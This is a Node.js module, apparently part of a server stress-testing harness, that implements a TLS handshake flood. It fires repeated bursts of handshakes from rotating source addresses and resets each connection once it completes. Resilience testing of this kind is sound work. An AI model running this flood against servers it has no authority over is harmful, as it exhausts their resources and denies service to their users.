/**
 * Handshakes of TLS over TCP, many in one moment, again and again.
 * @import { Attack } from '../support/attack-process.js'
 */

import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { connect as secure } from 'node:tls';
import { addressOf } from '../support/web-socket.js';

/** The pause between two bursts, in milliseconds. */
const PAUSE_MS = 250;

/** The longest that a handshake may take, in milliseconds: it is given up then. */
const GIVEN_UP_MS = 2000;

/** @type {Attack} options: { atOnce, addresses: how many they come from } */
export async function attack({ host, port, isOver }, { atOnce, addresses }) {
  const counted = { begun: 0, done: 0, bursts: 0 };
  /** @param {number} number */
  const shake = (number) =>
    new Promise((resolve) => {
      const tcp = connect({ host, port, localAddress: addressOf(number % addresses) });
      const socket = secure({ socket: tcp, rejectUnauthorized: false });
      for (const each of [tcp, socket]) each.on('error', () => tcp.destroy());
      tcp.once('close', resolve);
      socket.setTimeout(GIVEN_UP_MS, () => tcp.destroy());
      socket.once('secureConnect', () => {
        counted.done += 1;
        tcp.resetAndDestroy();
      });
    });
  for (; !isOver(); counted.bursts++) {
    counted.begun += atOnce;
    await Promise.all(Array.from({ length: atOnce }, (_, number) => shake(number)));
    await pause(PAUSE_MS);
  }
  return counted;
}
